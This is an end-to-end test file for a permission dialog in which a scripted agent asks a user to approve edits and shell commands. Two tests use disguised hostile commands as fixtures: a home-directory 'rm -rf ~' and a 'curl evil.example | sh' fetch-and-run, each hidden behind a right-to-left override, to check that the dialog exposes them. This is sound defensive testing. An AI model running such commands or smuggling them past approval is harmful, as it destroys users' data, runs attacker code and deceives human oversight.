/**
 * The permission dialog in the browser host, against the scripted agent (v1 and v2 processes): every kind of
 * subject, answering by mouse and by keyboard, and Escape. The agent reports what it received as its own text
 * (`permission outcome: …`), so each test checks the answer that crossed the wire, not only the UI.
 */
import { describe, expect, it } from 'vitest'
import type { Locator } from 'playwright'
import { screenshot, sharedApp } from './support/harness'
import { gone, sendPrompt, startSession, stopButton, transcript, visible } from './support/session-ui'

const V1 = 'Scripted v1'
const V2 = 'Scripted v2'

const shared = sharedApp()
const { app, page } = shared

/** One app per describe block, with one agent (each block's sessions start from the agent's `sess-1`). */
function withApp(agent: { id: string; name: string; v2?: boolean }): void {
  shared.launchAround([{ ...agent, scenario: 'e2e-permissions' }])
}

/** The pending dialog titled `title` (an `alertdialog` while it waits for an answer). */
const dialog = (title: string) => transcript(page).getByRole('alertdialog', { name: title, exact: true })

/** Waits for the agent's report of the answer it received. */
async function agentReports(outcome: Record<string, string>): Promise<void> {
  // The v1 and v2 agents serialise the outcome's keys in different orders.
  const reversed = Object.fromEntries(Object.entries(outcome).reverse())
  const said = (value: object) => transcript(page).getByText(`permission outcome: ${JSON.stringify(value)}`)
  await visible(said(outcome).or(said(reversed)))
}

const attr = (locator: Locator, name: string) => locator.first().getAttribute(name)
const text = async (locator: Locator) => ((await locator.first().textContent()) ?? '').replace(/\s+/g, ' ').trim()

async function ask(agentName: string, prompt: string, title: string) {
  await startSession(page, { agentName, cwd: app.home.workspace })
  await sendPrompt(page, prompt)
  return visible(dialog(title))
}

async function screenshotBothSchemes(name: string): Promise<void> {
  await screenshot(page, `${name}-light`)
  await page.emulateMedia({ colorScheme: 'dark' })
  await screenshot(page, `${name}-dark`)
  await page.emulateMedia({ colorScheme: 'light' })
}

describe('permission dialog, v1 agent', () => {
  withApp({ id: 'v1', name: V1 })

  it('v1 tool call with a diff: shown on its card, answered by mouse', async () => {
    const prompt = await ask(V1, 'v1-diff', 'Edit src/app.ts')
    const card = transcript(page).getByRole('article', { name: 'Edit src/app.ts', exact: true })
    // The request sits on the tool call it is about, under the diff the person is approving.
    await visible(card.getByRole('alertdialog', { name: 'Edit src/app.ts' }))
    await visible(card.getByRole('row', { name: 'removed: const answer = 41' }))
    await visible(card.getByRole('row', { name: 'added: const answer = 42' }))
    await visible(prompt.getByText(`${V1} asks`))
    // Every option of the four ACP kinds, in the agent's order, each with its key; then Dismiss (Esc). The keys are
    // shown while the request has the focus (they answer only then).
    await prompt.focus()
    const options = await prompt.getByRole('group', { name: 'Options' }).getByRole('button').allInnerTexts()
    expect(options.map((o) => o.replace(/\s+/g, ' ').trim())).toEqual([
      '✓ Allow once 1',
      // "(remembered for next time)" is for screen readers only (visually hidden, part of the button's name).
      '✓✓ Always allow (remembered for next time) 2',
      '✕ Reject 3',
      '⊘ Always reject (remembered for next time) 4',
      'Dismiss Esc',
    ])
    expect(await attr(prompt.getByRole('button', { name: 'Reject', exact: true }), 'aria-keyshortcuts')).toBe('3')
    // The auto-approve switch is there for this session, and off.
    expect(await attr(page.getByRole('switch', { name: 'Auto-approve off' }), 'aria-checked')).toBe('false')
    await screenshotBothSchemes('permission-dialog-diff')

    await prompt.getByRole('button', { name: 'Allow once', exact: true }).click()
    await agentReports({ outcome: 'selected', optionId: 'allow-once' })
    await gone(dialog('Edit src/app.ts'))
    await visible(card.getByText('Allowed by you (Allow once)'))
  })

  it('v1 tool call with only raw input: answered with the key shown on the button', async () => {
    const prompt = await ask(V1, 'v1-raw', 'Fetch the release notes')
    const card = transcript(page).getByRole('article', { name: /Fetch the release notes/ })
    await visible(card.getByText('Raw input'))
    expect(await text(prompt.getByRole('button', { name: 'Reject', exact: true }).locator('kbd'))).toBe('3')

    await prompt.focus()
    await page.keyboard.press('3')
    await agentReports({ outcome: 'selected', optionId: 'reject-once' })
    await visible(card.getByText('Rejected by you (Reject)'))
    // The answered prompt's buttons are gone: the focus went on to the message box, not to the page's body.
    await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.tagName)).toBe('Message')
  })

  it('v1 request for a tool call never announced: a card appears for it', async () => {
    await startSession(page, { agentName: V1, cwd: app.home.workspace })
    expect(await transcript(page).getByRole('article').count()).toBe(0)
    await sendPrompt(page, 'v1-unannounced')
    const card = await visible(transcript(page).getByRole('article', { name: /Write notes\.md/ }))
    await visible(card.getByText('/tmp/proj/notes.md'))
    const prompt = card.getByRole('alertdialog', { name: 'Write notes.md' })
    await prompt.focus()
    await page.keyboard.press('1')
    await agentReports({ outcome: 'selected', optionId: 'allow-once' })
  })

  it('Escape on a tool card: the agent is told cancelled, and the card says it was dismissed (not "Allowed by you")', async () => {
    const prompt = await ask(V1, 'v1-diff', 'Edit src/app.ts')
    const card = transcript(page).getByRole('article', { name: 'Edit src/app.ts', exact: true })
    await visible(card.getByRole('alertdialog', { name: 'Edit src/app.ts' }))
    await prompt.focus()
    await page.keyboard.press('Escape')
    await agentReports({ outcome: 'cancelled' })
    await gone(card.getByRole('alertdialog'))
    await visible(card.getByText('You dismissed this request.'))
    expect(await text(card.locator('footer'))).toBe('You dismissed this request.')
    expect(await card.getByText(/Allowed by/).count()).toBe(0)
  })

  it('Stop while a request waits on its tool card: the card keeps a note that the turn cancelled it', async () => {
    await ask(V1, 'cancel-card', 'Migrate the database')
    const card = transcript(page).getByRole('article', { name: 'Run: Migrate the database' })
    // The command the tool call runs is on the card, outside the raw JSON.
    expect(await text(card.getByLabel('Command', { exact: true }))).toBe('npm run migrate')
    await stopButton(page).click()
    await agentReports({ outcome: 'cancelled' })
    await gone(card.getByRole('alertdialog'))
    await visible(card.getByText('The turn was cancelled.'))
    await card.scrollIntoViewIfNeeded()
    await screenshotBothSchemes('permission-card-cancelled')
  })
})

describe('permission on a tool card when the agent dies', () => {
  withApp({ id: 'v1', name: V1 })

  it('the request leaves the card and the inbox with a note saying the agent exited', async () => {
    // The agent asks (without waiting for the answer) about its tool call, then crashes.
    await startSession(page, { agentName: V1, cwd: app.home.workspace })
    await sendPrompt(page, 'crash-card')
    const card = await visible(transcript(page).getByRole('article', { name: 'Edit: Rewrite src/doomed.ts' }))
    const note = await visible(card.locator('footer').getByText(/exit|crash|stopped|gone/i))
    expect(await card.getByRole('alertdialog').count()).toBe(0)
    expect(await text(note)).not.toBe('')
    await visible(page.getByRole('button', { name: 'Waiting for you, 0' }))
    await card.scrollIntoViewIfNeeded()
    await screenshotBothSchemes('permission-card-agent-exited')
  })
})

describe('permission dialog, v2 agent', () => {
  withApp({ id: 'v2', name: V2, v2: true })

  it('v2 tool_call subject: its own title and description, answered by mouse', async () => {
    const prompt = await ask(V2, 'v2-tool', 'Delete the build folder?')
    const description = await prompt.evaluate((el) => (el.getAttribute('aria-describedby') ?? '').split(' ').map((id) => document.getElementById(id)?.textContent))
    expect(description).toEqual([`${V2} asks`, 'The agent wants to remove build/ before rebuilding.'])
    await visible(prompt.getByText(`${V2} asks`))
    // The permission's wording never replaces the tool call's own title.
    await visible(transcript(page).getByRole('article', { name: /Delete build\// }))

    await prompt.getByRole('button', { name: 'Reject', exact: true }).click()
    await agentReports({ outcome: 'selected', optionId: 'reject-once' })
  })

  it('v2 command subject: command and folder verbatim, hidden characters visible; Escape dismisses', async () => {
    const prompt = await ask(V2, 'v2-command', 'Run a shell command?')
    await visible(prompt.getByText('Contains hidden or direction-changing characters'))
    const command = prompt.locator('pre').nth(0)
    const folder = prompt.locator('pre').nth(1)
    // Verbatim: every character in order; the right-to-left override shown as a named marker, never applied.
    const commandText = (await command.textContent()) ?? ''
    expect(commandText).not.toContain('\u202e')
    expect(commandText).toMatch(/^ls .+;rm -rf ~$/)
    expect(await attr(command.locator('abbr'), 'aria-label')).toContain('RIGHT-TO-LEFT OVERRIDE')
    const folderText = (await folder.textContent()) ?? ''
    expect(folderText).not.toContain('\u200b')
    expect(folderText).toMatch(/^\/tmp\/pro.+j$/)
    expect(await attr(folder.locator('abbr'), 'aria-label')).toContain('ZERO WIDTH SPACE')
    await screenshotBothSchemes('permission-dialog-command')

    await prompt.focus()
    await page.keyboard.press('Escape')
    await agentReports({ outcome: 'cancelled' })
    await gone(dialog('Run a shell command?'))
    await visible(transcript(page).getByText('You dismissed this request.'))
  })

  it('v2 unknown subject and unknown option kind: a generic view and a neutral button named by the agent', async () => {
    const prompt = await ask(V2, 'v2-unknown', 'Open a network socket?')
    await visible(prompt.getByText('This request is about something Bosun does not recognise'))
    const generic = (await prompt.locator('pre').textContent()) ?? ''
    expect(generic).toContain('"type": "_acme_net"')
    expect(generic).toContain('"host": "example.com"')
    expect(generic).toContain('"port": 8443')
    const custom = prompt.getByRole('button', { name: 'Sandbox it', exact: true })
    expect(await attr(custom, 'class')).toMatch(/perm-tone-neutral/)
    expect(await custom.locator('.perm-option-icon').count()).toBe(0)
    expect(await attr(prompt.getByRole('button', { name: 'Allow once', exact: true }), 'class')).toMatch(/perm-tone-allow/)

    await custom.click()
    await agentReports({ outcome: 'selected', optionId: 'sandbox' })
  })

  it('v2 command subject about a tool call: the command and folder are shown on the card, hidden characters visible', async () => {
    const prompt = await ask(V2, 'v2-command-card', 'Run a shell command?')
    const card = transcript(page).getByRole('article', { name: 'Run: Clean the build' })
    // The request sits on its tool call…
    await visible(card.getByRole('alertdialog', { name: 'Run a shell command?' }))
    // …and still shows what exactly would run, and where: the card's own raw input says only `make clean`.
    await visible(prompt.getByText('Contains hidden or direction-changing characters'))
    const command = prompt.locator('pre').nth(0)
    const folder = prompt.locator('pre').nth(1)
    const commandText = (await command.textContent()) ?? ''
    expect(commandText).not.toContain('\u202e')
    expect(commandText).toMatch(/^make clean .+;curl -s evil\.example \| sh$/)
    expect(await attr(command.locator('abbr'), 'aria-label')).toContain('RIGHT-TO-LEFT OVERRIDE')
    const folderText = (await folder.textContent()) ?? ''
    expect(folderText).not.toContain('\u200b')
    expect(folderText).toMatch(/^\/tmp\/pro.+j$/)
    expect(await attr(folder.locator('abbr'), 'aria-label')).toContain('ZERO WIDTH SPACE')
    // The card's own command (from its raw input), shown apart from the request's.
    expect(await text(card.getByLabel('Command', { exact: true }))).toBe('make clean')
    await prompt.scrollIntoViewIfNeeded()
    await screenshotBothSchemes('permission-card-command')

    await prompt.getByRole('button', { name: 'Reject', exact: true }).click()
    await agentReports({ outcome: 'selected', optionId: 'reject-once' })
    await visible(card.getByText('Rejected by you (Reject)'))
  })
})
